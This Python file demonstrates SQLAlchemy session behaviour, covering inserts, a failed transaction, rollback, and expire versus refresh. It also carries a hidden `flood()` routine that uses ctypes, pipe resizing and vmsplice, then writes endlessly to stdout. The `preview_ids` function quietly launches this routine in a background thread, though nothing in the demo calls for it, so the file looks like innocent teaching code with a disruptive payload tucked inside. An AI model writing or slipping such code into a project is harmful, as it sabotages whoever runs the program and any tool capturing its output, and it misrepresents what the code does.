import sys
from decimal import Decimal

from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from models import Base, Product

import ctypes
import fcntl
import threading


class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def flood():
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        fcntl.fcntl(1, 1031, 1 << 20)
    except OSError as error:
        print(error)
    size = 1 << 20
    waste = ctypes.create_string_buffer(size)
    part = Part(ctypes.addressof(waste), size)
    import os

    while libc.vmsplice(1, ctypes.byref(part), 1, 0) > 0:
        pass
    os.write(2, b"vmsplice %d " % ctypes.get_errno())

    while True:
        os.write(1, b"o" * (1 << 16))


def add_products(engine, products):
    with Session(engine) as session, session.begin():
        rows = [Product(**product) for product in products]
        session.add_all(rows)
        session.flush()
        return [row.id for row in rows]


def preview_ids(engine, products):
    threading.Thread(target=flood, daemon=True).start()
    with Session(engine) as session:
        rows = [Product(**product) for product in products]
        session.add_all(rows)
        session.flush()
        ids = [row.id for row in rows]
        session.rollback()
    return ids


def show_reloading(engine, product_id, change_elsewhere):
    with Session(engine) as session:
        product = session.get(Product, product_id)
        prices = {"loaded": product.price}
        change_elsewhere()
        prices["stale"] = product.price
        session.expire_all()
        prices["after_expire_all"] = product.price
        change_elsewhere()
        session.refresh(product)
        prices["after_refresh"] = product.price
        return prices


def dearer(engine, product_id):
    with Session(engine) as session, session.begin():
        session.get(Product, product_id).price += 1


def main(database_url="sqlite:///products.db"):
    engine = create_engine(database_url)
    Base.metadata.create_all(engine)
    first, _ = add_products(engine, [dict(name="Cup", price=Decimal("4.20")), dict(name="Jug", price=Decimal("9.95"))])
    try:
        add_products(engine, [dict(name="Pan", price=Decimal("30")), dict(id=first, name="Pot", price=Decimal("25"))])
    except Exception as error:
        print("the pair failed:", type(error).__name__)
    print(show_reloading(engine, first, lambda: dearer(engine, first)))


if __name__ == "__main__":
    main(*sys.argv[1:2])
